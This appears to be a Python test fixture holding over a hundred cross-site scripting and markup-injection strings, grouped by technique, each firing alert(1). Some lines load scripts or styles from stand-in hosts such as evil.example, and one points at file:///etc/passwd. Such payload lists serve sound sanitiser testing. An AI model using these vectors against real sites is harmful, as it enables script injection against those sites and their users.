"""Texts that try to become script or markup where they are shown, by the way they try it.

Each that runs calls `alert`, so that a page that is taken in opens a dialog.
"""

TAGS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//127.0.0.1:1/x.js></SCRIPT>", "<script type=module>alert(1)</script>",
    "<script/x>alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>", "<img/src/onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<b>bold</b><i>italic</i><u>under</u>", "<base href=//127.0.0.1:1/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//127.0.0.1:1/x.css>",
    "<template><img src=x onerror=alert(1)></template>", "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext>all that follows", "<xmp><img src=x onerror=alert(1)></xmp>", "<x-evil onclick=alert(1)>x</x-evil>",
]  # fmt: skip
ATTRIBUTES = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="', '"/><img src=x onerror=alert(1)>', "` onclick=alert(1) `", "x onclick=alert(1) y",
    '" style="position:fixed;inset:0" onclick="alert(1)', '" data-open="0123456789abcdef 0:1', "\" data-ask='x' x=\"",
    '"\tonclick\t=\talert(1)\t', '"\fonclick=alert(1)//', "\\\" onclick=alert(1)//", '">\n<img src=x onerror=alert(1)>',
]  # fmt: skip
HANDLERS = [
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<div onpointerover=alert(1)>x</div>",
    "<p onanimationstart=alert(1) style='animation:breathe 1s'>x</p>", "<form><button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=submit>", "<dialog open onclose=alert(1)>x</dialog>",
    "<div contenteditable onblur=alert(1)>x</div>", "<button popovertarget=x onclick=alert(1)>x</button>",
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060img src=x onerror=alert(1)>", "&amp;lt;script&amp;gt;alert(1)", "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&NewLine;&Tab;&colon;&lpar;", "&apos; onclick=&apos;alert(1)", "&", "&#0;&#xD800;&#x110000;",
]  # fmt: skip
ENCODINGS = [
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cimg%2520src=x%2520onerror=alert(1)%253E", "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)",
    "\u02bcimg src=x onerror=alert(1)\u02be", "¼script¾alert(1)¼/script¾", "\u2028alert(1)\u2029", "a\u0300<script>alert(1)</script>\u0338",
]  # fmt: skip
FOREIGN = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
]  # fmt: skip
TEMPLATES = [
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{value}}", "${value}", "{% import os %}", "<%= alert(1) %>", "#{alert(1)}",
    "{{#if value}}<b>x</b>{{/if}}", "{@html '<img src=x onerror=alert(1)>'}", "${'<img src=x onerror=alert(1)>'}", "`;alert(1)//",
    "';alert(1)//", '";alert(1)//', "</script><script>alert(1)</script>", "[[alert(1)]]", "@@children@@ {children}",
]  # fmt: skip
CHARACTERS = [
    "\u202ereversed\u202c", "\u2067isolated", "\u2066\u202e<img src=x onerror=alert(1)>\u2069", "\x1b[31mred\x1b[0m", "bell\x07 back\x08 del\x7f",
    "<\x0bimg src=x onerror=alert(1)>", "<img\x0csrc=x onerror=alert(1)>", "<\u200bscript>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "\ufffe\uffff<b>x</b>", "Z\u0351\u0343\u0320a\u0306\u0323l\u0334g\u0489o", "\U000e0001\U000e003c<b>tags</b>", "</\u0000script>".replace("\0", "\x01"),
]  # fmt: skip
BROKEN = [
    "<", "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)", "<img src='x", '<a title="', "</div></section></ol></main></body></html>",
    "</textarea></title></style></script><img src=x onerror=alert(1)>", "<div", "<!-- never closed", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "]]><img src=x onerror=alert(1)>", "<!DOCTYPE html><html>",
    "<?xml version='1.0'?><?php alert(1) ?>", "<![if IE]><script>alert(1)</script><![endif]>",
]  # fmt: skip
STYLES = [
    "<style>*{display:none}</style>", "<style>@import '//127.0.0.1:1/x.css';</style>", "<p style=background:url(//127.0.0.1:1/x)>x</p>",
    "\";}*{display:none}", "<div style='position:fixed;inset:0;z-index:999'>x</div>", "expression(alert(1))", "</style><img src=x onerror=alert(1)>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript://127.0.0.1/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "blob:https://evil.example/x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "https:evil.example",
    "https://evil.example/\"onclick=alert(1)//", "https://good.example@evil.example/", "http://[::1", "view-source:https://evil.example/",
    "&#106;avascript:alert(1)", "%6aavascript:alert(1)", "https://evil.example/<script>alert(1)</script>", "jar:https://evil.example!/x",
]  # fmt: skip
CLASSES = {
    "tags": TAGS, "attributes": ATTRIBUTES, "handlers": HANDLERS, "entities": ENTITIES, "encodings": ENCODINGS, "svg and mathml": FOREIGN,
    "templates": TEMPLATES, "characters": CHARACTERS, "broken": BROKEN, "styles": STYLES, "addresses": ADDRESSES,
}  # fmt: skip
PAYLOADS = [payload for payloads in CLASSES.values() for payload in payloads]
